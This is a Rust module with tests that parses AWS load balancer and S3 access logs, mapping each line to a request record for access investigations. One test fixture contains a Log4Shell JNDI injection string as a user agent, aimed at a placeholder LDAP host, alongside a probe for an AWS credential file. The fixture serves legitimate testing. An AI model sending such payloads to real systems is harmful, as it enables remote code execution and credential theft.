//! Amazon Web Services access logs: Application Load Balancer (ALB) and
//! Classic Elastic Load Balancer (ELB) lines, read by one parser, and Amazon
//! S3 server access logs.
//!
//! A load balancer line is read by position. ALB lines start with the
//! request type (`http`, `https`, `h2`, `grpcs`, `ws`, `wss`), Classic ELB
//! lines with the time; from there both hold the time (ISO 8601, UTC), the
//! balancer's name, `client:port`, `target:port`, three timings, the
//! balancer's status, the target's status, two sizes and the quoted request
//! line with an absolute URL, then the quoted user agent. A file mixing the
//! two (as an exported bucket may) reads whole. Network Load Balancer lines
//! (`tls 2.0 ...`) log a connection, not a request: they are unparsed with
//! that reason, so their time counts as unread, never as "no request".
//!
//! Access means the target served it, so the status recorded is the
//! target's. Where no target answered (`-`: a fixed response, a redirect or
//! authentication action, a timeout), it is the balancer's own and the
//! record is flagged `lb_answered`; a 2xx the balancer sent alone (a fixed
//! response) then counts as served, an over-match the flag lets the
//! investigator discount, where reading it as nothing could hide a target
//! the log failed to name. Where both answered with different codes (the
//! client left, 460; the target's reply was refused, 502), the target's is
//! recorded and `lb_status_differs` set. The client is the address without
//! its port (IPv6 addresses are logged bare: `2001:db8::1:50718`).
//!
//! An S3 line names the object key apart from the Request-URI. The exposed
//! resource is the object, so the target matched is `/` and the key as
//! logged (URL-encoded; the normaliser decodes it, and a `+` is also read
//! as a space, as form encoding writes it), with the Request-URI's query
//! (a presigned URL's signature shows there). Operations without a key
//! (bucket listings, `REST.GET.VERSIONING`) are matched on their
//! Request-URI, which names the bucket in path-style requests. Every
//! operation is kept with its HTTP status: `REST.GET.OBJECT` 200/206 is an
//! access, and so, over-matching, is any other success on an exposed key
//! (a `PUT`, a `BATCH.DELETE.OBJECT`); the method column says which.

use std::borrow::Cow;
use std::net::IpAddr;

use super::{AgentEncoding, Format, Record, RecordFlags, Shape, Unparsed, clf};
use crate::time::Timestamp;

/// Which AWS log a file holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Log {
    /// ALB or Classic ELB lines.
    LoadBalancer,
    /// S3 server access log lines.
    S3,
}

/// The first word of an ALB line: the request type.
const ALB_TYPES: [&[u8]; 6] = [b"http", b"https", b"h2", b"grpcs", b"ws", b"wss"];

/// The first word of a Network Load Balancer line (a connection log).
const NLB_TYPES: [&[u8]; 3] = [b"tls", b"tcp", b"udp"];

impl Log {
    /// Parses one line (without its line end, not blank).
    pub fn parse(self, line: &[u8]) -> Result<Record<'_>, Unparsed> {
        match self {
            Log::LoadBalancer => parse_load_balancer(line),
            Log::S3 => parse_s3(line),
        }
    }

    /// Whether a `+` in a target may stand for a space: S3 keys may be
    /// form-encoded.
    pub fn writes_plus_for_space(self) -> bool {
        self == Log::S3
    }

    /// The time of a line that did not parse, when one can be read.
    pub fn time_of(self, line: &[u8]) -> Option<Timestamp> {
        match self {
            Log::LoadBalancer => {
                let mut rest = line;
                let first = next_word(&mut rest)?;
                let sent = parse_iso_time(first)
                    .or_else(|| next_word(&mut rest).and_then(parse_iso_time))
                    .or_else(|| next_word(&mut rest).and_then(parse_iso_time))?;
                // An ALB's request was received at its creation time, if
                // the line still holds it: an unparsed line is placed where
                // a parsed one would be.
                Some(request_creation_time(rest, sent, 64).unwrap_or(sent))
            }
            Log::S3 => clf::salvage_time(line, chrono_tz::UTC),
        }
    }
}

/// The AWS format a line looks like, and why, for detection: by shape
/// alone, so that a line cut short still says what the file is.
pub fn kind_of_line(line: &[u8]) -> Option<(Format, &'static str)> {
    let mut rest = line;
    let first = next_word(&mut rest)?;
    if ALB_TYPES.contains(&first) || NLB_TYPES.contains(&first) {
        let mut time = next_word(&mut rest)?;
        if NLB_TYPES.contains(&first) {
            // `tls 2.0 time ...`: a version comes first.
            time = next_word(&mut rest)?;
        }
        return parse_iso_time(time).map(|_| {
            (
                Format::Alb,
                "start with a listener type (http, https, h2, ws, wss; tls for a Network Load Balancer) and an ISO 8601 time, as AWS Application Load Balancers write them",
            )
        });
    }
    if first.ends_with(b"Z") && parse_iso_time(first).is_some() {
        let _name = next_word(&mut rest)?;
        let client = next_word(&mut rest)?;
        return is_address(without_port(client)).then_some((
            Format::Elb,
            "start with an ISO 8601 UTC time, a balancer name and client ip:port, as an AWS Classic Load Balancer writes them",
        ));
    }
    if !time_field_is_bracketed(line) {
        return None;
    }
    let s3 = S3Line::split(line).ok()?;
    let dated = s3.time.starts_with(b"[") && clf::salvage_time(s3.time, chrono_tz::UTC).is_some();
    let named = s3.operation.contains(&b'.') && s3.operation[0].is_ascii_uppercase();
    (dated && named).then_some((
        Format::S3,
        "are S3 server access log lines (owner, bucket, [time], ip, requester, id, OPERATION.NAME, key)",
    ))
}

/// `time name client:port target:port t t t elb_status target_status
/// received sent "request" "user agent" ...`, after ALB's type word.
fn parse_load_balancer(line: &[u8]) -> Result<Record<'_>, Unparsed> {
    let mut rest = line;
    let first = next_word(&mut rest).ok_or(Unparsed::LbFields)?;
    if NLB_TYPES.contains(&first) {
        return Err(Unparsed::NlbConnection);
    }
    let time_word = match ALB_TYPES.contains(&first) {
        true => next_word(&mut rest).ok_or(Unparsed::NoIsoTime)?,
        false => first,
    };
    let alb = time_word != first;
    let time = parse_iso_time(time_word).ok_or(Unparsed::NoIsoTime)?;
    let fields = take(|| next_word(&mut rest), Unparsed::LbFields)?;
    let [
        _name,
        client,
        _target,
        _,
        _,
        _,
        lb_status,
        target_status,
        _,
        sent,
    ] = fields;
    let mut flags = RecordFlags::empty();
    let status = lb_outcome(
        parse_status(lb_status)?,
        parse_status(target_status)?,
        &mut flags,
    );
    let rest = rest.trim_ascii_start();
    let mut rest = rest.strip_prefix(b"\"").ok_or(Unparsed::LbFields)?;
    let request = quoted(&mut rest, &mut flags);
    let mut after_agent: &[u8] = &[];
    let user_agent = rest
        .trim_ascii_start()
        .strip_prefix(b"\"")
        .map(|mut r| {
            let agent = quoted(&mut r, &mut flags);
            after_agent = r;
            agent
        })
        .filter(|a| *a != b"-");
    // An ALB's `time` is when it sent the response: a download begun
    // inside a window and ended after it is placed when it was asked for.
    let time = match alb {
        true => request_creation_time(after_agent, time, 16).unwrap_or(time),
        false => time,
    };
    let (method, target, protocol) = clf::split_request(request);
    Ok(Record {
        time,
        vhost: None,
        client: without_port(client),
        forwarded: None,
        user: None,
        request,
        method,
        // `"- - -"`: the balancer could not read a request.
        target: target
            .filter(|t| !t.iter().all(|b| matches!(b, b'-' | b' ')))
            .map(Cow::Borrowed),
        query: None,
        protocol,
        status,
        bytes: parse_bytes(sent),
        referer: None,
        user_agent,
        agent_encoding: AgentEncoding::AsLogged,
        shape: Shape::Fields,
        flags,
    })
}

/// An ALB line's `request_creation_time`, the first unquoted ISO 8601 time
/// in `rest` (after the user agent, in a parsed line) among its first
/// `words`, when it is no later than the line's `time` (when the response
/// was sent) and less than a day before it.
fn request_creation_time(mut rest: &[u8], sent: Timestamp, words: usize) -> Option<Timestamp> {
    let mut ignored = RecordFlags::empty();
    for _ in 0..words {
        rest = rest.trim_ascii_start();
        if let Some(mut body) = rest.strip_prefix(b"\"") {
            quoted(&mut body, &mut ignored);
            rest = body;
            continue;
        }
        let word = next_word(&mut rest)?;
        if let Some(created) = parse_iso_time(word) {
            let taken = sent.0 - created.0;
            return (0..86_400).contains(&taken).then_some(created);
        }
    }
    None
}

/// The status that says whether the target served the request: the
/// target's, or the balancer's own (flagged) when no target answered.
fn lb_outcome(lb: Option<u16>, target: Option<u16>, flags: &mut RecordFlags) -> Option<u16> {
    match (lb, target) {
        (_, None) => {
            flags.insert(RecordFlags::LB_ANSWERED);
            lb
        }
        (Some(lb), Some(target)) if lb != target => {
            flags.insert(RecordFlags::LB_STATUS_DIFFERS);
            Some(target)
        }
        (_, target) => target,
    }
}

/// The fields of an S3 line that a record is built from.
struct S3Line<'a> {
    bucket: &'a [u8],
    time: &'a [u8],
    remote_ip: &'a [u8],
    requester: &'a [u8],
    operation: &'a [u8],
    key: &'a [u8],
    request: &'a [u8],
    status: &'a [u8],
    bytes_sent: Option<&'a [u8]>,
    referer: Option<&'a [u8]>,
    user_agent: Option<&'a [u8]>,
    flags: RecordFlags,
}

impl<'a> S3Line<'a> {
    /// `owner bucket [time] ip requester id operation key "request-uri"
    /// status error bytes-sent object-size total turn-around "referer"
    /// "user-agent" ...`; the fields after the status may be missing.
    fn split(line: &'a [u8]) -> Result<S3Line<'a>, Unparsed> {
        let mut flags = RecordFlags::empty();
        let mut rest = line;
        let mut next = || next_s3_field(&mut rest, &mut flags);
        let head = take(&mut next, Unparsed::S3Fields)?;
        let [
            _owner,
            bucket,
            time,
            remote_ip,
            requester,
            _id,
            operation,
            key,
            request,
            status,
        ] = head;
        let _error = next();
        let bytes_sent = next();
        let (_size, _total, _turn_around) = (next(), next(), next());
        let referer = next();
        let user_agent = next();
        Ok(S3Line {
            bucket,
            time,
            remote_ip,
            requester,
            operation,
            key,
            request,
            status,
            bytes_sent,
            referer,
            user_agent,
            flags,
        })
    }
}

/// Whether the third field of `line`, read as `S3Line::split` reads it,
/// is there and starts with `[`, as an S3 line's time does: detection
/// tries every sample line of every file as an S3 line, and most fail
/// here, three fields in, rather than after all of them are split.
fn time_field_is_bracketed(line: &[u8]) -> bool {
    let mut flags = RecordFlags::empty();
    let mut rest = line;
    let mut fields = std::iter::from_fn(|| next_s3_field(&mut rest, &mut flags));
    fields.nth(2).is_some_and(|time| time.starts_with(b"["))
}

fn parse_s3(line: &[u8]) -> Result<Record<'_>, Unparsed> {
    let s3 = S3Line::split(line)?;
    if !s3.time.starts_with(b"[") {
        return Err(Unparsed::NoTimestamp);
    }
    let time = clf::salvage_time(s3.time, chrono_tz::UTC).ok_or(Unparsed::NoTimestamp)?;
    let (method, uri, protocol) = match s3.request {
        b"-" => (s3.operation, None, &b""[..]),
        request => clf::split_request(request),
    };
    let uri = uri.filter(|u| *u != b"-");
    let (target, query) = match dash_to_none(s3.key) {
        // The key is the object; the query (a presigned URL's signature,
        // `?versionId=`) is the Request-URI's.
        Some(key) => (
            Some(Cow::Owned([&b"/"[..], key].concat())),
            uri.and_then(|u| memchr::memchr(b'?', u).map(|i| &u[i + 1..])),
        ),
        None => (uri.map(Cow::Borrowed), None),
    };
    Ok(Record {
        time,
        vhost: dash_to_none(s3.bucket),
        client: s3.remote_ip,
        forwarded: None,
        user: dash_to_none(s3.requester),
        request: s3.request,
        method,
        target,
        query,
        protocol,
        status: parse_status(s3.status)?,
        bytes: s3.bytes_sent.and_then(parse_bytes),
        referer: s3.referer.and_then(dash_to_none),
        user_agent: s3.user_agent.and_then(dash_to_none),
        agent_encoding: AgentEncoding::AsLogged,
        shape: Shape::Fields,
        flags: s3.flags,
    })
}

/// The next `N` fields from `next`, or `missing` when the line ends first.
fn take<'a, const N: usize>(
    mut next: impl FnMut() -> Option<&'a [u8]>,
    missing: Unparsed,
) -> Result<[&'a [u8]; N], Unparsed> {
    let mut fields = [&b""[..]; N];
    for field in &mut fields {
        *field = next().ok_or(missing)?;
    }
    Ok(fields)
}

fn dash_to_none(field: &[u8]) -> Option<&[u8]> {
    (field != b"-" && !field.is_empty()).then_some(field)
}

/// The next space-separated word of `rest` (leading spaces skipped), or
/// `None` at the end; `rest` moves past it.
fn next_word<'a>(rest: &mut &'a [u8]) -> Option<&'a [u8]> {
    let start = rest.iter().position(|&b| b != b' ')?;
    let from = &rest[start..];
    let end = memchr::memchr(b' ', from).unwrap_or(from.len());
    *rest = &from[end..];
    Some(&from[..end])
}

/// The next S3 field: `[bracketed]`, `"quoted"` (without its quotes) or a
/// word.
fn next_s3_field<'a>(rest: &mut &'a [u8], flags: &mut RecordFlags) -> Option<&'a [u8]> {
    let start = rest.iter().position(|&b| b != b' ')?;
    let from = &rest[start..];
    if let Some(body) = from.strip_prefix(b"\"") {
        *rest = body;
        return Some(quoted(rest, flags));
    }
    if from.starts_with(b"[") {
        if let Some(close) = memchr::memchr(b']', from) {
            *rest = &from[close + 1..];
            return Some(&from[..=close]);
        }
    }
    *rest = from;
    next_word(rest)
}

/// The body of a quoted value whose opening quote is already read: up to
/// the first quote followed by a space or the line end (a quote inside,
/// as a client may send, does not close it). Without a closing quote, the
/// rest of the line, flagged.
fn quoted<'a>(rest: &mut &'a [u8], flags: &mut RecordFlags) -> &'a [u8] {
    let body = *rest;
    let close =
        memchr::memchr_iter(b'"', body).find(|&i| matches!(body.get(i + 1), None | Some(b' ')));
    match close {
        Some(i) => {
            *rest = &body[i + 1..];
            &body[..i]
        }
        None => {
            flags.insert(RecordFlags::UNTERMINATED_QUOTE);
            *rest = &body[body.len()..];
            body
        }
    }
}

/// A client as the address alone: `1.2.3.4:80`, `[::1]:80` and AWS's bare
/// `2001:db8::1:80` lose their port; anything else is kept as logged.
pub(super) fn without_port(client: &[u8]) -> &[u8] {
    if let Some(inner) = client.strip_prefix(b"[") {
        if let Some(end) = memchr::memchr(b']', inner) {
            return &inner[..end];
        }
    }
    match memchr::memrchr(b':', client) {
        Some(i)
            if i + 1 < client.len()
                && client[i + 1..].iter().all(u8::is_ascii_digit)
                && is_address(&client[..i]) =>
        {
            &client[..i]
        }
        _ => client,
    }
}

pub(super) fn is_address(text: &[u8]) -> bool {
    std::str::from_utf8(text).is_ok_and(|t| t.parse::<IpAddr>().is_ok())
}

/// `yyyy-mm-ddThh:mm:ss[.ffffff][Z]`: AWS writes UTC, with or without the
/// `Z` (Network Load Balancer lines drop it).
fn parse_iso_time(s: &[u8]) -> Option<Timestamp> {
    let s = s.strip_suffix(b"Z").unwrap_or(s);
    let whole = match memchr::memchr(b'.', s) {
        Some(i) if s[i + 1..].iter().all(u8::is_ascii_digit) => &s[..i],
        Some(_) => return None,
        None => s,
    };
    let shape = whole.len() == 19
        && whole[4] == b'-'
        && whole[7] == b'-'
        && whole[10] == b'T'
        && whole[13] == b':'
        && whole[16] == b':';
    if !shape {
        return None;
    }
    let n = |r: std::ops::Range<usize>| number(&whole[r]);
    Timestamp::from_utc_fields(
        n(0..4)? as i32,
        n(5..7)?,
        n(8..10)?,
        n(11..13)?,
        n(14..16)?,
        n(17..19)?,
    )
}

fn number(s: &[u8]) -> Option<u32> {
    s.iter()
        .all(u8::is_ascii_digit)
        .then(|| s.iter().fold(0, |n, d| n * 10 + u32::from(d - b'0')))
}

/// A status: three digits, or `-` (none logged).
fn parse_status(s: &[u8]) -> Result<Option<u16>, Unparsed> {
    match s {
        b"-" => Ok(None),
        _ if s.len() == 3 => number(s).map(|n| Some(n as u16)).ok_or(Unparsed::BadStatus),
        _ => Err(Unparsed::BadStatus),
    }
}

/// A size; `-` and ALB's `-1` are no size.
fn parse_bytes(s: &[u8]) -> Option<u64> {
    (!s.is_empty() && s.len() <= 19 && s.iter().all(u8::is_ascii_digit))
        .then(|| s.iter().fold(0u64, |n, d| n * 10 + u64::from(d - b'0')))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::testing::summary;

    fn check(log: Log, table: &[(&str, Result<&str, Unparsed>)]) {
        for (line, want) in table {
            let got = log.parse(line.as_bytes()).map(|r| summary(&r));
            assert_eq!(got.as_deref(), want.as_deref(), "{line}");
        }
    }

    const ALB_TAIL: &str = r#"ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-""#;

    #[test]
    fn reads_load_balancer_lines_with_the_target_status() {
        let alb = |head: &str| format!("{head} {ALB_TAIL}");
        let table: &[(String, Result<&str, Unparsed>)] = &[
            // AWS's documented HTTPS example: the target served it. Its
            // time is the request's creation, not the response's.
            (
                alb(
                    r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/forms/a.pdf?x=1 HTTP/1.1" "curl/7.46.0""#,
                ),
                Ok(
                    "2018-07-02T22:22:48Z 192.168.131.39 - GET https://www.example.com:443/forms/a.pdf?x=1 200 curl/7.46.0 - - [] bytes=57",
                ),
            ),
            // A fixed response (WAF): no target, the balancer's own 404.
            (
                alb(
                    r#"https 2023-04-26T19:53:47.809400Z app/a/490d 192.168.1.14:44750 - -1 -1 -1 404 - 203 167 "GET https://api.example.com:443/.awscfg HTTP/1.1" "${jndi:ldap://x/a}""#,
                ),
                Ok(
                    "2023-04-26T19:53:47Z 192.168.1.14 - GET https://api.example.com:443/.awscfg 404 ${jndi:ldap://x/a} - - [lb_answered] bytes=167",
                ),
            ),
            // A fixed 200 from the balancer alone still counts, flagged.
            (
                alb(
                    r#"http 2023-04-26T19:53:47Z app/a/490d 192.168.1.14:44750 - -1 -1 -1 200 - 203 167 "GET http://h:80/forms/a.pdf HTTP/1.1" "-""#,
                ),
                Ok(
                    "2023-04-26T19:53:47Z 192.168.1.14 - GET http://h:80/forms/a.pdf 200 - - - [lb_answered] bytes=167",
                ),
            ),
            // The client left (460) after the target answered 200.
            (
                alb(
                    r#"h2 2020-01-11T16:55:20.356586Z app/a/jf29 192.168.1.10:55753 192.168.1.14:32797 0.001 0.019 -1 460 200 40 0 "GET https://h:443/forms/a.pdf HTTP/2.0" "UA""#,
                ),
                Ok(
                    "2020-01-11T16:55:20Z 192.168.1.10 - GET https://h:443/forms/a.pdf 200 UA - - [lb_status_differs] bytes=0",
                ),
            ),
            // IPv6 clients are logged bare, port last.
            (
                alb(
                    r#"h2 2023-09-10T23:55:00.361692Z app/I8YR/6378 2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718 10.0.0.0:80 0.000 0.003 0.000 401 401 29 805 "GET https://api.foo.bar.nl:443/api/v1/alerts HTTP/2.0" "okhttp/4.11.0""#,
                ),
                Ok(
                    "2023-09-10T23:55:00Z 2a02:a33c:4538:1:bcf4:5264:e01c:f215 - GET https://api.foo.bar.nl:443/api/v1/alerts 401 okhttp/4.11.0 - - [] bytes=805",
                ),
            ),
            // A WebSocket upgrade; an unreadable request has no target.
            (
                alb(
                    r#"wss 2018-07-02T22:23:00.186641Z app/a/50dc 10.0.0.140:44244 10.0.0.171:8010 0.000 0.001 0.000 101 101 218 786 "GET https://10.0.0.30:443/ HTTP/1.1" "-""#,
                ),
                Ok("2018-07-02T22:22:48Z 10.0.0.140 - GET https://10.0.0.30:443/ 101 - - - [] bytes=786"),
            ),
            (
                r#"http 2018-11-30T22:23:00.186641Z app/a/50dc 192.168.131.39:2817 - -1 -1 -1 400 - 0 0 "- - -" "-" - - - "-" "-" "-" 0 2018-11-30T22:22:48.364000Z "-" "-" "-""#.to_string(),
                Ok("2018-11-30T22:22:48Z 192.168.131.39 - - - 400 - - - [lb_answered] bytes=0"),
            ),
            // Classic ELB: the time first, no trailing fields after TLS.
            (
                r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.38.0" DHE-RSA-AES128-SHA TLSv1.2"#.to_string(),
                Ok("2015-05-13T23:39:43Z 192.168.131.39 - GET https://www.example.com:443/ 200 curl/7.38.0 - - [] bytes=57"),
            ),
            (
                r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001065 0.000015 0.000023 - - 57 502 "- - - " "-" ECDHE-ECDSA-AES128-GCM-SHA256 TLSv1.2"#.to_string(),
                Ok("2015-05-13T23:39:43Z 192.168.131.39 - - - - - - - [lb_answered] bytes=502"),
            ),
            // A raw quote inside the request does not end it.
            (
                r#"2015-05-13T23:39:43Z lb 1.2.3.4:1 10.0.0.1:80 0 0 0 200 200 0 1 "GET http://h/a"b HTTP/1.1" "UA""#.to_string(),
                Ok("2015-05-13T23:39:43Z 1.2.3.4 - GET http://h/a\"b 200 UA - - [] bytes=1"),
            ),
            (
                r#"2015-05-13T23:39:43Z lb 1.2.3.4:1 10.0.0.1:80 0 0 0 200 200 0 1 "GET http://h/a HTTP/1.1"#.to_string(),
                Ok("2015-05-13T23:39:43Z 1.2.3.4 - GET http://h/a 200 - - - [unterminated_quote] bytes=1"),
            ),
            (
                "tls 2.0 2022-04-01T08:51:42 net/my-nlb/c6e7 g3d4 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn - ECDHE tlsv12 - h h2 h2 \"h2\"".to_string(),
                Err(Unparsed::NlbConnection),
            ),
            (
                "http 2018-07-02 22:23:00 app/a 1.2.3.4:1".to_string(),
                Err(Unparsed::NoIsoTime),
            ),
            (
                "http 2018-07-02T22:23:00Z app/a 1.2.3.4:1 - 0 0 0 200".to_string(),
                Err(Unparsed::LbFields),
            ),
            (
                r#"2015-05-13T23:39:43Z lb 1.2.3.4:1 10.0.0.1:80 0 0 0 200 2000 0 1 "GET / HTTP/1.1" "UA""#.to_string(),
                Err(Unparsed::BadStatus),
            ),
        ];
        let table: Vec<(&str, Result<&str, Unparsed>)> =
            table.iter().map(|(l, w)| (l.as_str(), *w)).collect();
        check(Log::LoadBalancer, &table);
    }

    const S3_TAIL: &str = r#" - 8TkJExampleHostId= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader awsexamplebucket1.s3.us-west-1.amazonaws.com TLSv1.2 - -"#;

    #[test]
    fn reads_s3_lines_with_the_object_key_as_target() {
        let s3 = |head: &str| format!("{head}{S3_TAIL}");
        let owner = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be";
        let table: Vec<(String, Result<&str, Unparsed>)> = vec![
            // AWS's documented GET: the key is the target, the bucket the
            // vhost, the requester the user.
            (
                s3(&format!(
                    r#"{owner} awsexamplebucket1 [06/Feb/2019:00:00:38 +0000] 192.0.2.3 {owner} 3E57427F3EXAMPLE REST.GET.OBJECT forms/a%20b.pdf "GET /awsexamplebucket1/forms/a%20b.pdf?versionId=3 HTTP/1.1" 200 - 113 113 7 6 "-" "S3Console/0.4""#
                )),
                Ok(
                    "2019-02-06T00:00:38Z 192.0.2.3 79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be GET /forms/a%20b.pdf?versionId=3 200 S3Console/0.4 - awsexamplebucket1 [] bytes=113",
                ),
            ),
            // A partial read; `+` kept as logged (matching reads it both
            // ways); an offset time.
            (
                s3(&format!(
                    r#"{owner} b [06/Feb/2019:02:00:38 +0200] 2001:db8::1 - 3E5 REST.GET.OBJECT forms/a+b.pdf "GET /forms/a+b.pdf HTTP/1.1" 206 - 512 1024 7 6 "https://ref/" "Mozilla/5.0 (X11)""#
                )),
                Ok(
                    "2019-02-06T00:00:38Z 2001:db8::1 - GET /forms/a+b.pdf 206 Mozilla/5.0 (X11) - b [] bytes=512",
                ),
            ),
            // No key: a bucket listing is matched on its Request-URI.
            (
                s3(&format!(
                    r#"{owner} b [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E5 REST.GET.BUCKET - "GET /b/?prefix=forms/&list-type=2 HTTP/1.1" 200 - 242 - 11 - "-" "aws-cli/2""#
                )),
                Ok(
                    "2019-02-06T00:00:38Z 192.0.2.3 - GET /b/?prefix=forms/&list-type=2 200 aws-cli/2 - b [] bytes=242",
                ),
            ),
            // No Request-URI: the operation stands for the method.
            (
                format!(
                    "{owner} b [10/Sep/2019:15:11:07 +0000] 77.227.156.41 arn:aws:iam::1:user/j 8CD7 BATCH.DELETE.OBJECT forms/a.pdf - 204 - - 344017 - - - - - IeDW= SigV4 ECDHE AuthHeader s3.eu-central-1.amazonaws.com TLSv1.2"
                ),
                Ok(
                    "2019-09-10T15:11:07Z 77.227.156.41 arn:aws:iam::1:user/j BATCH.DELETE.OBJECT /forms/a.pdf 204 - - b [] bytes=-",
                ),
            ),
            // An old line that stops after the status.
            (
                format!(
                    r#"{owner} b [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E5 REST.HEAD.OBJECT forms/a.pdf "HEAD /forms/a.pdf HTTP/1.1" 403"#
                ),
                Ok("2019-02-06T00:00:38Z 192.0.2.3 - HEAD /forms/a.pdf 403 - - b [] bytes=-"),
            ),
            (
                format!(
                    r#"{owner} b [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E5 REST.GET.OBJECT k"#
                ),
                Err(Unparsed::S3Fields),
            ),
            (
                format!(
                    r#"{owner} b 06/Feb/2019:00:00:38 192.0.2.3 - 3E5 REST.GET.OBJECT k "GET /k HTTP/1.1" 200"#
                ),
                Err(Unparsed::NoTimestamp),
            ),
            (
                format!(
                    r#"{owner} b [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E5 REST.GET.OBJECT k "GET /k HTTP/1.1" OK"#
                ),
                Err(Unparsed::BadStatus),
            ),
        ];
        let table: Vec<(&str, Result<&str, Unparsed>)> =
            table.iter().map(|(l, w)| (l.as_str(), *w)).collect();
        check(Log::S3, &table);
    }

    #[test]
    fn names_the_kind_of_each_line() {
        let table: &[(&str, Option<Format>)] = &[
            (
                "h2 2018-07-02T22:23:00.186641Z app/a 1.2.3.4:1",
                Some(Format::Alb),
            ),
            ("tls 2.0 2022-04-01T08:51:42 net/a", Some(Format::Alb)),
            (
                "2015-05-13T23:39:43.945958Z lb 192.168.131.39:2817 -",
                Some(Format::Elb),
            ),
            (
                "2015-05-13T23:39:43.945958Z lb [::1]:2817 -",
                Some(Format::Elb),
            ),
            // A container runtime's prefix is no Classic ELB line.
            ("2025-12-31T17:37:40.493035218+01:00 stdout F {}", None),
            ("2025-12-31T17:37:40Z stdout F {}", None),
            (
                r#"o b [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E5 REST.GET.OBJECT k "GET /k HTTP/1.1" 200"#,
                Some(Format::S3),
            ),
            (
                r#"1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 1 "-" "UA""#,
                None,
            ),
        ];
        for (line, want) in table {
            assert_eq!(kind_of_line(line.as_bytes()).map(|k| k.0), *want, "{line}");
        }
    }

    #[test]
    fn salvages_times_of_lines_that_did_not_parse() {
        let at = |log: Log, s: &str| log.time_of(s.as_bytes()).map(|t| t.to_rfc3339());
        assert_eq!(
            at(Log::LoadBalancer, "tls 2.0 2022-04-01T08:51:42 net/a").as_deref(),
            Some("2022-04-01T08:51:42Z")
        );
        assert_eq!(
            at(Log::LoadBalancer, "http 2018-07-02T22:23:00Z app/a").as_deref(),
            Some("2018-07-02T22:23:00Z")
        );
        assert_eq!(
            at(Log::S3, "o b [06/Feb/2019:00:00:38 +0000] x").as_deref(),
            Some("2019-02-06T00:00:38Z")
        );
        assert_eq!(at(Log::LoadBalancer, "junk"), None);
        // A line cut short that still holds its creation time is placed
        // where its parsed twin is: when the request was received.
        let cut = r#"https 2018-07-02T22:23:00.186641Z app/a 192.0.2.1:2817 10.0.0.1:80 0.1 40.0 0.1 200 200 0 57 "GET https://h:443/forms/a.pdf HTTP/1.1" "curl/7.46.0" ECDHE TLSv1.2 arn:x "Root=1" "h" "-" 1 2018-07-02T22:22:18.364000Z "forward""#;
        assert_eq!(
            at(Log::LoadBalancer, cut).as_deref(),
            Some("2018-07-02T22:22:18Z")
        );
    }
}
